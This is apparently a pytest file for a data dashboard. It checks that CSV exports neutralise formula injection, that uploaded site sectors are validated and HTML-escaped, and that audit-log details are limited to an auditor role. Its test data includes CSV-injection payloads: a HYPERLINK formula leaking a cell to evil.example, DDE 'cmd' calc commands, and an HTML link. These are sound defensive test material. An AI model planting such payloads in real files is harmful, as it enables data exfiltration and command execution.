"""What the product writes out holds no live formulas, links or hidden details (issue #18).

- #5: partner text starting with ``= + - @`` (or TAB, CR) reaches every CSV the product writes
  (the dashboard export, the export job's file, the export API, the quarantined rows, the audit
  log) only as text: each such cell starts with ``'``; numbers stay numbers.
- #11: a site's sector from an upload is checked against the DHS list (an unknown one is
  quarantined), and no user text reaches the map as plotly pseudo-HTML.
- #12: the audit log shows administrators only who did what when, with what outcome; the
  details (file names, categories, extents) are for the auditor role.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from flask.testing import FlaskClient
from sqlalchemy import Engine, select, update

from data_loaders.ingest import ingest_table
from data_loaders.profiles import load_profile
from data_loaders.readers import RawTable
from domain.roles import Role, Viewer
from exports.csvsafe import FORMULA_PREFIXES
from jobs.exports import start_export_job
from layers.selection import ScreenState
from security import audit
from security.apikeys import create_key
from settings import Settings, get_settings
from store.engine import session_scope
from store.models import Site
from store.queries.quarantine import quarantined_rows
from testkit.api_kit import basic, bearer
from testkit.factories import raw_events
from testkit.security_kit import AGENCY_A, callback_payload, make_users, sign_in

ORIGIN = {"Origin": "http://localhost"}
# Formulas a partner could type into a free-text field; each starts with one dangerous character.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)
# A leading TAB or CR survives only where text is kept as given (quarantined rows, user names).
HIDDEN = ('\t=HYPERLINK("http://evil.example","x")', "\r=1+1")


def _client(engine: Engine, settings: Settings, name: str) -> FlaskClient:
    from app import create_app

    make_users(engine, settings, (name,))
    client = create_app(settings).server.test_client()
    assert sign_in(client, name) == 302
    return client


def _callback(client: FlaskClient, output: str, values: dict[str, Any]) -> Any:
    deps = client.get("/_dash-dependencies").get_json()
    cb = next(c for c in deps if output in c["output"])
    return client.post("/_dash-update-component", json=callback_payload(cb, values), headers=ORIGIN)


def _ingest_formulas(engine: Engine, settings: Settings) -> int:
    """Store TLP:GREEN incidents of agency A whose category and place are formulas."""
    table = raw_events(len(FORMULAS) * 2, seed=55)
    for i, formula in enumerate(FORMULAS):
        table.frame.loc[i, "OFFENSE_DESCRIPTION"] = formula
        table.frame.loc[i, "STREET"] = formula
        table.frame.loc[i + len(FORMULAS), "STREET"] = formula
        table.frame.loc[i + len(FORMULAS), "OFFENSE_DESCRIPTION"] = "VANDALISM"
    profile = load_profile("bpd_incidents").model_copy(
        update={"name": "formulas", "source": AGENCY_A, "handling": "TLP:GREEN"}
    )
    summary = ingest_table(
        engine,
        table,
        profile,
        origin="formulas.csv",
        sha256=None,
        area=None,
        store_res=settings.h3_store_res,
    )
    return summary.inserted


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_neutralised(text: str, expected: tuple[str, ...]) -> list[list[str]]:
    """Every cell that starts like a formula is not one; each ``expected`` value is there quoted."""
    rows = _cells(text)
    cells = [c for row in rows for c in row]
    live = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    # A plain number ("-71.06") is a number to a spreadsheet, never a formula.
    assert all(_is_number(c) for c in live), [c for c in live if not _is_number(c)][:5]
    for value in expected:
        assert "'" + value in cells, f"{value!r} not neutralised"
    return rows


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def _zipped_csv(data: bytes) -> str:
    """Return the one CSV file of a zip (a CSV comes zipped with its metadata sidecar)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        (name,) = [n for n in zf.namelist() if n.endswith(".csv")]
        return zf.read(name).decode()


def _column(rows: list[list[str]], name: str) -> list[str]:
    i = rows[0].index(name)
    return [r[i] for r in rows[1:]]


def test_csv_exports_neutralise_partner_formulas(
    engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    assert _ingest_formulas(engine, settings) == len(FORMULAS) * 2
    analyst = _client(engine, settings, "analyst")
    state = ScreenState("all").to_json()

    # The dashboard's export route (GDAL's CSV writer), zipped with its sidecar.
    resp = analyst.get(
        "/export/download", query_string={"layer": "incidents", "format": "csv", "state": state}
    )
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    rows = _assert_neutralised(_zipped_csv(resp.get_data()), FORMULAS)
    # Negative longitudes are still numbers, not text.
    assert all(float(v) < 0 for v in _column(rows, "lon"))
    assert all(not v.startswith("'") for v in _column(rows, "lon"))

    # An export job (the dashboard's Export button), read through its download route.
    viewer = Viewer("analyst", Role.ANALYST, settings.host_agency)
    job_settings = settings.model_copy(update={"var_dir": tmp_path})
    job_id = start_export_job(
        engine=engine,
        settings=job_settings,
        viewer=viewer,
        layer="incidents",
        fmt="csv",
        res=8,
        state=ScreenState("all"),
        background=False,
    )
    from app import create_app

    job_client = create_app(job_settings).server.test_client()
    assert sign_in(job_client, "analyst") == 302
    resp = job_client.get(f"/export/jobs/{job_id}/file")
    assert resp.status_code == 200
    body = resp.get_data()
    resp.close()
    job_rows = _assert_neutralised(_zipped_csv(body), FORMULAS)
    assert all(float(v) < 0 for v in _column(job_rows, "lon"))

    # The export API's streamed CSV.
    resp = analyst.get(
        "/api/v1/export",
        query_string={"layer": "incidents", "format": "csv"},
        headers=basic("analyst"),
    )
    assert resp.status_code == 200
    api_rows = _assert_neutralised(resp.get_data(as_text=True), FORMULAS)
    resp.close()
    assert all(float(v) < 0 for v in _column(api_rows, "lon"))


def test_quarantine_csv_neutralises_the_partner_file(engine: Engine, settings: Settings) -> None:
    analyst = _client(engine, settings, "analyst")
    frame = raw_events(len(FORMULAS) + len(HIDDEN), seed=56).frame
    values = (*FORMULAS, *HIDDEN)
    for i, value in enumerate(values):
        frame.loc[i, "Lat"] = "not a latitude"  # every row is quarantined
        frame.loc[i, "STREET"] = value
    frame["EXTRA"] = "@SUM(1+1)"  # a column no profile maps is kept in the quarantine too
    table = RawTable(frame=frame)
    profile = load_profile("bpd_incidents").model_copy(
        update={"name": "q", "source": settings.host_agency, "handling": "TLP:GREEN"}
    )
    batch = ingest_table(
        engine,
        table,
        profile,
        origin="q.csv",
        sha256=None,
        area=None,
        store_res=settings.h3_store_res,
    )
    assert batch.quarantined == len(values)
    resp = _callback(
        analyst,
        "upload-download.data",
        {"upload-quarantine-button.n_clicks": 1, "upload-batch.data": batch.batch_id},
    )
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    sent = resp.get_json()["response"]["upload-download"]["data"]
    content = base64.b64decode(sent["content"]).decode() if sent["base64"] else sent["content"]
    rows = _assert_neutralised(content, (*values, "@SUM(1+1)"))
    assert _column(rows, "source:STREET") == ["'" + v for v in values]
    assert set(_column(rows, "source:Long")) == set(frame["Long"])  # numbers stay as they came


def test_audit_csv_neutralises_user_names_and_file_names(
    engine: Engine,
    settings: Settings,
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    from app import create_app

    attacker = create_app(settings).server.test_client()
    for name in FORMULAS:
        assert sign_in(attacker, name, "whatever") == 401  # a failed sign-in, audited as typed
    # A file name is kept as chosen (TAB and CR included) and audited as the import's object.
    analyst = _client(engine, settings, "analyst")
    for name in HIDDEN:
        resp = _callback(
            analyst,
            "upload-summary.children",
            {
                "upload-button.n_clicks": 1,
                "upload-file.contents": "data:text/csv;base64,",
                "upload-file.filename": name,
                "upload-kind.value": "incident",
            },
        )
        assert resp.status_code == 200
    auditor = _client(engine, settings, "auditor")
    resp = auditor.get("/admin/audit.csv")
    assert resp.status_code == 200
    rows = _assert_neutralised(resp.get_data(as_text=True), (*FORMULAS, *HIDDEN))
    assert {"'" + n for n in FORMULAS} <= set(_column(rows, "username"))
    assert {"'" + n for n in HIDDEN} <= set(_column(rows, "object"))
    # The command line's export (manage.py audit export) writes the same cells.
    import manage

    monkeypatch.setenv("WATCHFLOOR_DATABASE_URL", db_url)
    get_settings.cache_clear()
    out = tmp_path / "audit.csv"
    try:
        assert manage.main(["audit", "export", "--output", str(out)]) == 0
    finally:
        get_settings.cache_clear()
    with open(out, encoding="utf-8", newline="") as fh:
        _assert_neutralised(fh.read(), (*FORMULAS, *HIDDEN))


# --- #11: a site's sector is checked on import; no user text reaches plotly as HTML ----------

LINK = '<a href="http://evil.example">x</a>'
SITES = pd.DataFrame(
    {
        "name": ["Plant", "Hospital", "Station", "Trap"],
        "latitude": [42.35, 42.36, 42.37, 42.38],
        "longitude": [-71.06, -71.05, -71.04, -71.03],
        "sector": ["Energy", "healthcare", "TRANSPORTATION  SYSTEMS", LINK],
        "tier": [1, 2, 3, 1],
    }
)
MAP_VALUES = {
    "layer-toggles.value": ["sites"],
    "window-store.data": {"preset": "all", "start": None, "end": None},
    "hex-res.value": 8,
}


def _links(body: Any) -> list[str]:
    dumped = json.dumps(body, ensure_ascii=False)
    return [s for s in ("<a", "</a") if s in dumped]


def test_an_uploaded_sector_link_is_quarantined_and_never_rendered(
    engine: Engine, settings: Settings
) -> None:
    analyst = _client(engine, settings, "analyst")
    contents = base64.b64encode(SITES.to_csv(index=False).encode()).decode()
    resp = _callback(
        analyst,
        "upload-summary.children",
        {
            "upload-button.n_clicks": 1,
            "upload-file.contents": "data:text/csv;base64," + contents,
            "upload-file.filename": "sites.csv",
            "upload-kind.value": "site",
            "upload-source.value": settings.host_agency,
        },
    )
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    batch_id = resp.get_json()["response"]["upload-batch"]["data"]
    with session_scope(engine) as s:
        stored = dict(s.execute(select(Site.name, Site.sector)).tuples().all())
        rejects = quarantined_rows(session=s, viewer=Viewer.system(), batch_id=batch_id)
    # Known sectors and their other names are stored as the DHS names; the link is not stored.
    assert stored == {
        "Plant": "Energy",
        "Hospital": "Healthcare and Public Health",
        "Station": "Transportation Systems",
    }
    assert rejects is not None and list(rejects["reason"]) == ["unknown_sector"]
    assert "not a DHS" in rejects["detail"].iloc[0]

    # Every user's map legend: the sites' trace names carry no link.
    map_resp = _callback(analyst, "map-spec.data", MAP_VALUES)
    assert map_resp.status_code == 200
    body = map_resp.get_json()["response"]
    names = {t["name"] for t in body["map-spec"]["data"]["data"]}
    assert names == {"Energy", "Healthcare and Public Health", "Transportation Systems"}
    assert not _links(body)

    # A sector stored before the check (or by any other path) is escaped, not rendered.
    with session_scope(engine) as s:
        s.execute(update(Site).where(Site.name == "Plant").values(sector=LINK))
    from store.columnar import mark_stale

    mark_stale(engine)
    body = _callback(analyst, "map-spec.data", MAP_VALUES).get_json()["response"]
    names = {t["name"] for t in body["map-spec"]["data"]["data"]}
    assert "&lt;a href=&quot;http://evil.example&quot;&gt;x&lt;/a&gt;" in names
    assert not _links(body)


# --- #12: administrators read who did what; the details are the auditor's -------------------

SECRET_FILE = "nighthawk-informants.csv"
SECRET_CATEGORY = "OPERATION NIGHTHAWK"
RED_PROFILE = f"""
name: a-red
source: {AGENCY_A}
kind: suspicious
columns:
  external_id: INCIDENT_NUMBER
  occurred_at: OCCURRED_ON_DATE
  lat: Lat
  lon: Long
  category: OFFENSE_DESCRIPTION
  location_text: STREET
handling: TLP:RED
"""


def test_audit_details_of_red_material_are_for_the_auditor_only(
    engine: Engine,
    settings: Settings,
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    import manage
    from app import create_app

    # Agency A's TLP:RED import from the command line: its file name and unmapped category.
    table = raw_events(6, seed=57).frame
    table["OFFENSE_DESCRIPTION"] = SECRET_CATEGORY
    path = tmp_path / SECRET_FILE
    table.to_csv(path, index=False)
    profile = tmp_path / "a-red.yaml"
    profile.write_text(RED_PROFILE)
    monkeypatch.setenv("WATCHFLOOR_DATABASE_URL", db_url)
    get_settings.cache_clear()
    try:
        args = ["ingest", str(path), "--kind", "suspicious", "--source", AGENCY_A]
        assert manage.main([*args, "--profile", str(profile), "--quiet", "--no-area"]) == 0
    finally:
        get_settings.cache_clear()
    # Agency A's partner key exports its RED rows and reads the collections' extents.
    with session_scope(engine) as s:
        key, _ = create_key(session=s, agency=AGENCY_A)
    api = create_app(settings).server.test_client()
    query = {"layer": "suspicious", "format": "geojson"}
    resp = api.get("/api/v1/export", query_string=query, headers=bearer(key))
    assert resp.status_code == 200 and resp.headers["X-Watchfloor-Handling"] == "TLP:RED"
    resp.close()
    assert api.get("/ogc/collections", headers=bearer(key)).status_code == 200
    with session_scope(engine) as s:
        entries = audit.entries(session=s)
    extents = next(e for e in entries if e.action == "ogc.read" and "extents" in (e.details or ""))
    bbox = json.loads(extents.details or "{}")["extents"]["suspicious"]["spatial"]["bbox"][0]
    secrets = (SECRET_FILE, SECRET_CATEGORY, repr(bbox[0])[:8], "TLP:RED")

    # The host agency's administrator: who did what, when, and how it went; nothing more.
    admin = _client(engine, settings, "admin")
    page = admin.get("/admin/audit")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert "ogc.read" in text and "export" in text and "import" in text
    for secret in secrets:
        assert secret not in text, f"{secret!r} shown to the administrator"
    resp = admin.get("/admin/audit.csv")
    assert resp.status_code == 200
    rows = _cells(resp.get_data(as_text=True))
    assert tuple(rows[0]) == audit.SUMMARY_COLUMNS
    assert {"import", "export", "ogc.read"} <= set(_column(rows, "action"))
    for secret in secrets:
        assert secret not in resp.get_data(as_text=True), f"{secret!r} in the admin's CSV"

    # The auditor (the center's privacy officer) reads every column.
    auditor = _client(engine, settings, "auditor")
    full = auditor.get("/admin/audit.csv").get_data(as_text=True)
    assert tuple(_cells(full)[0]) == audit.EXPORT_COLUMNS
    for secret in secrets:
        assert secret in full, secret
    assert SECRET_CATEGORY in auditor.get("/admin/audit").get_data(as_text=True)
    # Each reading of the log is itself audited, with the columns it gave.
    with session_scope(engine) as s:
        reads = audit.entries(session=s, action="audit.export")
    given = {e.username: json.loads(e.details or "{}")["columns"] for e in reads}
    assert given == {"admin": list(audit.SUMMARY_COLUMNS), "auditor": list(audit.EXPORT_COLUMNS)}
